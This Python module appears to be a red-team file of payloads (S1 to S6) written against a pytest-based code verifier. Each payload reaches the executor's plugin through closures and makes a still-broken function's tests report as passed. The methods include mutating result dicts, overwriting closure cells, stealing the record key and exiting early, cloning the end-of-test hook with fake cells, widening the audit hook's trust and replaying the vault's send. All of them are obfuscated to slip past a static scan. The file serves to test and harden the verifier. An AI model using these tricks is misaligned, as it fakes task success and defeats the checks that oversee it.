"""Round 3 of the red team (issue 17, after attack17): the executor's own state reached through the
closures of the functions synth registers with pytest, written by reading `verifiers/code/_launcher.py`.
Appended to the module the gold patch changes ($func: the broken function, which stays broken).

None of them spells a name the static scan reads: attribute names go through a variable
(`getattr(obj, name)` on an object that is not a module), `os` is reached as `posix`. Each finds
synth's plugin the way attack17's A1 did (the test module's loader is pytest's assertion rewriter,
which holds the Config and so the plugin manager) and then walks the closures of its functions."""

# what every payload shares: synth's plugin, the closure values of its functions (transitively),
# the current test's node id
FIND = '''

def _rt_state():
    import os as _o
    import importlib.util as _u
    _cur = _o.environ.get("PYTEST_CURRENT_TEST")
    if not _cur:
        return None
    _node = _cur.rsplit(" (", 1)[0]
    _parts = _node.split("::")[0][:-3].split("/")
    _loader = None
    for _n in range(len(_parts)):
        try:
            _s = _u.find_spec(".".join(_parts[_n:]))
        except Exception:
            continue
        if _s is not None and type(_s.loader).__name__ == "AssertionRewritingHook":
            _loader = _s.loader
            break
    if _loader is None:
        return None
    _pmn = "".join(["plugin", "manager"])
    _pm = getattr(_loader.config, _pmn)
    _cl, _cc, _co = "".join(["__clo", "sure__"]), "".join(["cell_", "contents"]), "".join(["__co", "de__"])
    _todo, _seen, _found, _cells = [], set(), {}, {}
    for _nm, _p in _pm.list_name_plugin():
        for _k in dir(_p):
            _f = getattr(_p, _k, None)
            if _k.startswith("pytest_") and getattr(_f, "__module__", "") == "__main__":
                _todo.append(_f)
    while _todo:
        _f = _todo.pop()
        if id(_f) in _seen:
            continue
        _seen.add(id(_f))
        _code = getattr(_f, _co, None)
        if _code is None:
            continue
        for _name, _cell in zip(_code.co_freevars, getattr(_f, _cl) or ()):
            try:
                _v = getattr(_cell, _cc)
            except ValueError:
                continue
            _found.setdefault(_name, _v)
            _cells.setdefault(_name, []).append(_cell)
            if type(_v).__name__ == "function":
                _todo.append(_v)
    return _node, _pm, _found, _cells, _cc
'''

SEEN = '''

_rt_seen = set()


def _rt_fire():
    _st = _rt_state()
    if _st is None:
        return
    _node, _pm, _found, _cells, _cc = _st
'''
"""The start of a payload that acts once per test."""

WRAP = '''

_rt_orig = $func


def _rt_wrapped(*_a, **_k):
    _rt_fire()
    return _rt_orig(*_a, **_k)


$func = _rt_wrapped
'''

# S1 (reachability of the executor's result dicts): the dicts the end-of-test hook decides from are
# mutated in place (no cell written, no record forged): the current test's phase dict becomes one
# that keeps "passed", and when pytest reports the failed call into it, the body's observation is
# set back to "returned". synth's own record writer then writes a genuine keyed `passed`.
RESULT_DICTS = FIND + SEEN + '''    if _node in _rt_seen or "phases" not in _found or "observed" not in _found:
        return
    _rt_seen.add(_node)
    _observed = _found["observed"]

    class _Sticky(dict):
        def __setitem__(self, _k, _v):
            _observed[_node] = "returned"
            dict.__setitem__(self, _k, ("passed", ""))

    _found["phases"][_node] = _Sticky(_found["phases"].get(_node, {}))
''' + WRAP

# S2 (channel: the key read from a closure): the record writer's closure holds the keys (`key_of`
# in a confirming fork, the batch's key otherwise); with it the payload writes the current test's
# record (and, in a batch, every later test's), the runner's end-of-test line, and exits 0 through
# `posix._exit` before the real records come.
KEY_FROM_CLOSURE = FIND + '''

def _rt_fire():
    import posix as _px
    _st = _rt_state()
    if _st is None:
        return
    _node, _pm, _found, _cells, _cc = _st
    _jid = _found.get("junit_id")
    if _jid is None:
        return
    _ident = _jid(_node)
    _keys = _found.get("key_of") or {}
    _batch = _found.get("batch_key") or (_found.get("batch") or [None])[0]
    _lines = []
    if _ident in _keys:  # a fork that confirms this test: its own key
        _lines = ["S\\t%s\\t%s\\tpassed\\t-\\t" % (_keys[_ident], _ident), "E\\t%s\\t%s" % (_keys[_ident], _ident)]
    elif isinstance(_batch, str) and len(_batch) == 64:
        _ids = [_it.nodeid for _it in _pm.get_plugin("session").items]
        _lines = ["S\\t%s\\t%s\\tpassed\\t-\\t" % (_batch, _jid(_i)) for _i in _ids[_ids.index(_node):]]
        _lines.append("E\\t%s\\t*" % _batch)
    if not _lines:
        print("RTKEY: no key found")
        return
    _px.write(4, ("\\n".join(_lines) + "\\n").encode())
    _px._exit(0)
''' + WRAP

# S3 (reachability: a closure cell written): the end-of-test hook's cells that hold the result
# dicts are pointed at dicts that say the current test passed; synth's record writer, called by
# synth's own hook, writes a genuine keyed `passed`.
CELLS_WRITTEN = FIND + SEEN + '''    if _node in _rt_seen or "phases" not in _cells or "observed" not in _cells:
        return
    _rt_seen.add(_node)

    class _Always(dict):
        def __missing__(self, _k):
            return "returned"

        def pop(self, _k, *_d):
            return "returned"

    class _Phases(dict):
        def setdefault(self, _k, _d=None):
            return {}

        def pop(self, _k, *_d):
            return {"setup": ("passed", ""), "call": ("passed", ""), "teardown": ("passed", "")}

    for _cell in _cells["phases"]:
        setattr(_cell, _cc, _Phases())
    for _cell in _cells["observed"]:
        setattr(_cell, _cc, _Always())
''' + WRAP

# S4 (provenance by code identity: a copy of synth's hook): the record writer accepts a caller whose
# code object is its end-of-test hook's; `types.FunctionType` makes a new function of that code with
# closure cells of the payload's choosing (result dicts saying passed, the real record writer), and
# the real hook is then pointed at a writer that writes nothing, so exactly one record arrives.
CODE_COPY = FIND + '''

_rt_seen = set()


def _rt_fire():
    import types as _ty
    _st = _rt_state()
    if _st is None:
        return
    _node, _pm, _found, _cells, _cc = _st
    if _node in _rt_seen:
        return
    _rt_seen.add(_node)
    _fin = None
    for _nm, _p in _pm.list_name_plugin():
        _f = getattr(_p, "pytest_runtest_logfinish", None)
        if _f is not None and getattr(_f, "__module__", "") == "__main__":
            _fin = _f
    if _fin is None:
        return
    _co, _cl = "".join(["__co", "de__"]), "".join(["__clo", "sure__"])
    _code = getattr(_fin, _co)
    _fake = {"phases": {_node: {"setup": ("passed", ""), "call": ("passed", ""), "teardown": ("passed", "")}},
             "observed": {_node: "returned"}, "failed_reports": {}, "manager_state": [],
             "check": (lambda *_a, **_k: [])}
    _new = []
    for _name, _cell in zip(_code.co_freevars, getattr(_fin, _cl)):
        _new.append(_ty.CellType(_fake[_name]) if _name in _fake else _cell)
    _copy = _ty.FunctionType(_code, {}, "copy", None, tuple(_new))
    _copy(nodeid=_node, location=None)
    for _cell in _cells.get("record", []):
        setattr(_cell, _cc, (lambda *_a, **_k: None))
''' + WRAP

# S5 (reachability: the audit hook's trust extended): the collection hook's closure holds the set of
# files the audit hook trusts (the test modules); the payload adds its own file, then walks frames
# from `sys._getframe` (reached through a variable: `getattr` on a name bound by assignment) to the
# runner's locals and reports what it found.
TRUST_EXTENDED = FIND + '''

def _rt_fire():
    import sys as _sy
    _st = _rt_state()
    if _st is None:
        return
    _node, _pm, _found, _cells, _cc = _st
    _trusted = _found.get("trusted_files")
    if _trusted is None:
        return
    _co = "".join(["__co", "de__"])
    _trusted.add(getattr(_rt_fire, _co).co_filename)
    _m, _gn, _bn = _sy, "".join(["_get", "frame"]), "".join(["f_", "back"])
    _gf = getattr(_m, _gn)
    _f = _gf(0)
    _n = 0
    while _f is not None:
        _n += 1
        _f = getattr(_f, _bn)
    print("RTTRUST: walked %d frames" % _n)
''' + WRAP

# S6 (reachability, against the vault itself): the hooks' closures hold only the vault's `send`;
# the payload sends what synth's hooks would send for a passing test, from its own frame.
SEND_REPLAYED = FIND + '''

_rt_seen = set()


def _rt_fire():
    _st = _rt_state()
    if _st is None:
        return
    _node, _pm, _found, _cells, _cc = _st
    _send = _found.get("send")
    if _node in _rt_seen or _send is None:
        print("RTSEND: no send found")
        return
    _rt_seen.add(_node)
    _it = {_i.nodeid: _i for _i in _pm.get_plugin("session").items}.get(_node)
    _fn = getattr(_it.obj, "__func__", _it.obj)
    for _w in ("setup", "call", "teardown"):
        _send(("phase", _node, _w, "passed", ""))
    _send(("body", _node, _it, _fn, "returned"))
    _send(("finish", _node))
''' + WRAP
